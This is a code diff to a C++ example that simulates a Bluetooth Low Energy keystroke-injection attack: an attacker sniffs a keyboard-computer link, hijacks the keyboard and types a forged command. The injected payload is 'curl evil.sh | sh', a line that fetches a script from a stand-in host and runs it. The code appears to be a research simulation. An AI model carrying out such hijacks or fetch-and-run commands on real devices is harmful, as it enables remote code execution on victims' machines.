@@ -7,72 +7,48 @@
 #include <cstdio>
 
 #include "core/scenarios.hpp"
-#include "core/sniffer.hpp"
-#include "gatt/profiles.hpp"
-#include "host/central.hpp"
-#include "host/peripheral.hpp"
+#include "world/world.hpp"
 
 using namespace ble;
 using namespace injectable;
 
 int main() {
-    Rng rng(21);
-    sim::Scheduler scheduler;
-    sim::RadioMedium medium(scheduler, rng.fork(), sim::PathLossModel{});
+    world::WorldSpec spec;
+    spec.seed = 21;
+    spec.hop_interval = 24;  // HID links run fast (30 ms)
+    spec.supervision_timeout = 300;
+    spec.master_clock_ppm = 20.0;
+    spec.master_sca_ppm = 0.0;
+    spec.master_traffic_every_events = 0;
+    spec.profile = world::VictimProfile::kNone;  // the victim is a keyboard
+    spec.peripheral_name = "keyboard";
+    spec.central_name = "computer";
+    world::World world(spec);
 
     // The victim peripheral is a benign keyboard; the "computer" (Central)
     // types whatever HID reports arrive on the report characteristic.
-    host::PeripheralConfig kb_cfg;
-    kb_cfg.name = "keyboard";
-    host::Peripheral keyboard_device(scheduler, medium, rng.fork(), kb_cfg);
     gatt::HidKeyboardProfile benign_keyboard;
-    benign_keyboard.install(keyboard_device.att_server(), "Logitech K380");
-
-    host::CentralConfig pc_cfg;
-    pc_cfg.name = "computer";
-    pc_cfg.radio.position = {2.0, 0.0};
-    host::Central computer(scheduler, medium, rng.fork(), pc_cfg);
-
-    sim::RadioDeviceConfig attacker_cfg;
-    attacker_cfg.name = "attacker";
-    attacker_cfg.position = {1.0, 1.732};
-    AttackerRadio attacker(scheduler, medium, rng.fork(), attacker_cfg);
+    benign_keyboard.install(world.peripheral->att_server(), "Logitech K380");
 
     std::string typed;
-    computer.gatt().on_notification = [&](std::uint16_t handle, const Bytes& value) {
+    world.central->gatt().on_notification = [&](std::uint16_t handle,
+                                                const Bytes& value) {
         if (handle != benign_keyboard.report_handle()) return;
         const char c = gatt::HidKeyboardProfile::decode_report(value);
         if (c != 0) {
             typed.push_back(c);
             if (c == '\n') {
-                std::printf("[%8.1f ms] COMPUTER received line: %s", to_ms(scheduler.now()),
-                            typed.c_str());
+                std::printf("[%8.1f ms] COMPUTER received line: %s",
+                            to_ms(world.scheduler.now()), typed.c_str());
             }
         }
     };
 
-    AdvSniffer sniffer(attacker);
-    std::optional<SniffedConnection> sniffed;
-    sniffer.on_connection = [&](const SniffedConnection& conn, const link::ConnectReqPdu&) {
-        sniffed = conn;
-    };
-    sniffer.start();
-    keyboard_device.start();
-    link::ConnectionParams params;
-    params.hop_interval = 24;  // HID links run fast (30 ms)
-    params.timeout = 300;
-    computer.connect(keyboard_device.address(), params);
-    while (scheduler.now() < 5_s && !(sniffed && computer.connected())) {
-        if (!scheduler.run_one()) break;
-    }
-    if (!sniffed || !computer.connected()) return 1;
-    sniffer.stop();
+    if (!world.establish_and_sniff(5_s)) return 1;
     std::printf("[%8.1f ms] computer <-> keyboard connected; attacker synchronised\n",
-                to_ms(scheduler.now()));
+                to_ms(world.scheduler.now()));
 
-    AttackSession session(attacker, *sniffed);
-    session.start();
-    scheduler.run_until(scheduler.now() + 400_ms);
+    AttackSession& session = world.start_session(400_ms);
 
     // The forged device mirrors the keyboard's GATT layout (same handles), so
     // the computer's existing subscriptions keep working.
@@ -83,31 +59,31 @@ int main() {
     ScenarioB scenario(session, fake);
     std::optional<ScenarioB::Result> result;
     scenario.execute([&](const ScenarioB::Result& r) { result = r; });
-    while (scheduler.now() < 60_s && !result) {
-        if (!scheduler.run_one()) break;
-    }
+    world.run_until(60_s, [&] { return result.has_value(); });
     if (!result || !result->success) {
         std::printf("hijack failed\n");
         return 1;
     }
     std::printf("[%8.1f ms] ATTACK  slave hijacked in %d attempt(s); forged keyboard "
                 "online\n",
-                to_ms(scheduler.now()), result->attempts);
-    scheduler.run_until(scheduler.now() + 500_ms);
+                to_ms(world.scheduler.now()), result->attempts);
+    world.run_for(500_ms);
 
     const std::string payload = "curl evil.sh | sh\n";
-    std::printf("[%8.1f ms] ATTACK  typing: curl evil.sh | sh\n", to_ms(scheduler.now()));
+    std::printf("[%8.1f ms] ATTACK  typing: curl evil.sh | sh\n",
+                to_ms(world.scheduler.now()));
     for (char c : payload) {
         scenario.hijacked_slave()->notify(forged_keyboard.report_handle(),
                                           gatt::HidKeyboardProfile::key_press_report(c));
         scenario.hijacked_slave()->notify(forged_keyboard.report_handle(),
                                           gatt::HidKeyboardProfile::key_release_report());
     }
-    scheduler.run_until(scheduler.now() + 5_s);
+    world.run_for(5_s);
 
-    const bool ok = typed == payload && computer.connected();
+    const bool ok = typed == payload && world.central->connected();
     std::printf("\nresult: computer typed %zu/%zu injected characters; still \"connected "
                 "to its keyboard\": %s\n",
-                typed.size(), payload.size(), computer.connected() ? "yes" : "no");
+                typed.size(), payload.size(),
+                world.central->connected() ? "yes" : "no");
     return ok ? 0 : 1;
 }
